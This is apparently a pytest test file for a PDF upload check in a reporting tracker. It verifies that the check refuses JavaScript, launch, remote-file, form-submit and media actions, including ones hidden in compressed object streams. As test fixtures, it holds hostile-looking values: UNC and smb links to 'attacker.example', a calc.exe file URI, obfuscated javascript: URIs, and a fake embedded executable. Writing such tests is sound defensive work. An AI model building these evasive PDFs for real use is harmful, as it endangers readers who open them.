"""The PDF check reads every object of the file: actions that open, launch or play anything by
themselves or behind a click are refused wherever they hide, plain documents still pass."""

import time

import pytest
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.reports.pdfs import action, annotate, as_bytes, blank, javascript, name, packed
from tracker.reports import pdf_check
from tracker.reports.documents import DocumentError, check_pdf

LIMIT = 5 * 1024 * 1024
ACTIVE = "This PDF contains scripts or embedded files"


def refused(data: bytes) -> None:
    with pytest.raises(DocumentError, match=ACTIVE):
        check_pdf(data, LIMIT)


def passes(data: bytes) -> None:
    assert check_pdf(data, LIMIT).pages >= 1


@pytest.fixture(params=["both checks", "walk only"])
def checks(request, monkeypatch):
    """The walk must find each case without the raw byte scan of the file."""
    if request.param == "walk only":
        monkeypatch.setattr(pdf_check, "_raw_names_active", lambda data: False)
    return request.param


def link(writer, target: DictionaryObject) -> None:
    annotate(writer, DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): target}))


def field_with(entries: dict) -> DictionaryObject:
    return DictionaryObject(
        {name("/FT"): name("/Btn"), name("/T"): TextStringObject("agree"), **entries}
    )


def widget_whose_parent_has(writer, entries: dict) -> None:
    """A form field's widget on the page, its field (the /Parent) holding `entries`; no
    /AcroForm in the catalog, so nothing but the widget's /Parent leads to the field."""
    parent = writer._add_object(field_with(entries))
    annotate(writer, DictionaryObject({name("/Subtype"): name("/Widget"), name("/Parent"): parent}))


# Hidden from a walk that starts at the catalog


@pytest.mark.parametrize(
    "entries",
    [
        {"/A": "javascript"},
        {"/AA": "javascript on a keystroke"},
    ],
    ids=["action", "additional-action"],
)
def test_a_script_reached_through_parent_in_an_object_stream_is_refused(checks, entries):
    writer = blank()
    script = writer._add_object(javascript())
    key = next(iter(entries))
    value = script if key == "/A" else DictionaryObject({name("/K"): script})
    widget_whose_parent_has(writer, {name(key): value})
    data = packed(writer)
    assert b"JavaScript" not in data and b"/JS" not in data  # compressed: no bytes show it
    refused(data)


def test_a_plain_pdf_saved_with_object_streams_passes(checks):
    writer = blank(3)
    writer.add_outline_item("Policy", 0)
    link(writer, action("/URI", URI=TextStringObject("https://www.ecpat.org/")))
    widget_whose_parent_has(writer, {name("/V"): name("/Off")})
    passes(packed(writer))


def test_a_script_in_an_object_stream_that_no_cross_reference_lists_is_refused():
    """A viewer repairing the file may still find it; its object stream is scanned."""
    writer = blank()
    script = writer._add_object(javascript())
    data = packed(writer, unlisted=frozenset({script.idnum}))
    assert b"JavaScript" not in data
    refused(data)


def test_a_script_in_an_object_no_other_refers_to_is_refused_by_the_walk(checks):
    writer = blank()
    writer._add_object(javascript())
    refused(packed(writer))


# Acting when the document opens


def go_to_first_page(writer) -> DictionaryObject:
    page = writer.pages[0].indirect_reference
    return action("/GoTo", D=ArrayObject([page, name("/Fit")]))


@pytest.mark.parametrize(
    "opening",
    [
        lambda writer: action("/URI", URI=TextStringObject("https://tracker.example/")),
        lambda writer: action("/Named", N=name("/Print")),
        lambda writer: action(
            "/GoTo",
            D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
            Next=action("/URI", URI=TextStringObject("https://tracker.example/")),
        ),
        lambda writer: action(
            "/GoTo",
            D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
            Next=ArrayObject([go_to_first_page(writer), action("/Named", N=name("/Print"))]),
        ),
    ],
    ids=["uri", "named-print", "goto-then-uri", "goto-then-list-with-print"],
)
def test_an_open_action_that_does_more_than_show_a_page_is_refused(checks, opening):
    writer = blank()
    writer.root_object[name("/OpenAction")] = writer._add_object(opening(writer))
    refused(packed(writer))
    refused(as_bytes(writer))


@pytest.mark.parametrize("kind", ["destination", "goto"])
def test_an_open_action_showing_a_page_passes(kind):
    writer = blank(2)
    page = writer.pages[1].indirect_reference
    destination = ArrayObject([page, name("/XYZ"), NullObject(), NullObject(), NumberObject(0)])
    opening = destination if kind == "destination" else action("/GoTo", D=destination)
    writer.root_object[name("/OpenAction")] = opening
    passes(as_bytes(writer))
    passes(packed(writer))


def test_a_chain_of_open_actions_longer_than_any_real_file_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_check, "MAX_CHAIN", 10)
    writer = blank()
    destination = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
    chain = None
    for _ in range(12):
        step = action("/GoTo", D=destination)
        if chain is not None:
            step[name("/Next")] = chain
        chain = writer._add_object(step)
    writer.root_object[name("/OpenAction")] = chain
    with pytest.raises(DocumentError, match="damaged or cannot be read"):
        check_pdf(as_bytes(writer), LIMIT)


# Behind a click


def remote(kind: str) -> DictionaryObject:
    return action(kind, F=TextStringObject("\\\\attacker.example\\share\\policy.pdf"))


@pytest.mark.parametrize(
    "target",
    [
        lambda writer: remote("/GoToR"),
        lambda writer: action("/GoToE", T=DictionaryObject({name("/R"): name("/C")})),
        lambda writer: remote("/Launch"),
        lambda writer: action("/Sound", Sound=writer._add_object(StreamObject())),
        lambda writer: action("/Movie", T=TextStringObject("intro")),
        lambda writer: action("/Rendition", OP=NumberObject(0)),
        lambda writer: action("/SubmitForm", F=TextStringObject("https://collector.example/")),
        lambda writer: action("/ImportData", F=TextStringObject("data.fdf")),
    ],
    ids=["gotor", "gotoe", "launch", "sound", "movie", "rendition", "submit", "import"],
)
def test_a_link_that_opens_another_file_or_plays_media_is_refused(checks, target):
    writer = blank()
    link(writer, target(writer))
    refused(as_bytes(writer))
    refused(packed(writer))


@pytest.mark.parametrize(
    "uri",
    [
        "file:///C:/Windows/System32/calc.exe",
        "\\\\attacker.example\\share\\x.exe",
        "smb://attacker.example/share",
        "javascript:app.alert(1)",
        " \x01JavaScript:app.alert(1)",
        "calc.exe",
    ],
)
def test_a_link_to_anything_but_a_web_page_or_an_address_is_refused(checks, uri):
    writer = blank()
    link(writer, action("/URI", URI=TextStringObject(uri)))
    refused(as_bytes(writer))


@pytest.mark.parametrize(
    "uri", ["https://www.ecpat.org/", "http://thecode.org/report", "mailto:info@ecpat.org"]
)
def test_links_to_web_pages_and_addresses_pass(uri):
    writer = blank()
    link(writer, action("/URI", URI=TextStringObject(uri)))
    passes(as_bytes(writer))


@pytest.mark.parametrize("subtype", ["/Sound", "/Movie", "/Screen", "/3D", "/RichMedia"])
def test_media_annotations_are_refused(checks, subtype):
    writer = blank()
    annotate(writer, DictionaryObject({name("/Subtype"): name(subtype)}))
    refused(packed(writer))


def test_an_embedded_file_stream_no_object_refers_to_is_refused(checks):
    writer = blank()
    attachment = StreamObject()
    attachment.set_data(b"MZ\x90\x00 not really a program")
    attachment[name("/Type")] = name("/EmbeddedFile")
    writer._add_object(attachment)
    refused(as_bytes(writer))


# The cost of reading every object


def test_a_long_document_with_many_objects_is_checked_in_seconds():
    """About 5,000 objects (a long report has that many), every one of them read: linear."""
    writer = blank(200)
    for page in writer.pages:
        annotations = ArrayObject()
        for n in range(25):
            target = action("/URI", URI=TextStringObject(f"https://www.ecpat.org/{n}"))
            annotation = DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): target})
            annotations.append(writer._add_object(annotation))
        page[NameObject("/Annots")] = annotations
    data = packed(writer)
    started = time.perf_counter()
    passes(data)
    assert time.perf_counter() - started < 8  # 0.7 s here; room for a busy machine


def test_a_file_listing_too_many_objects_is_refused_before_they_are_read(monkeypatch):
    writer = blank()
    for n in range(60):
        writer._add_object(DictionaryObject({name("/N"): NumberObject(n)}))
    data = packed(writer)
    monkeypatch.setattr(pdf_check, "MAX_OBJECTS", 50)
    read = []
    monkeypatch.setattr(pdf_check, "_has_active_content", lambda *args: read.append(args))
    with pytest.raises(DocumentError, match="damaged or cannot be read"):
        check_pdf(data, LIMIT)
    assert read == []
    monkeypatch.setattr(pdf_check, "MAX_OBJECTS", 80)
    passes(data)
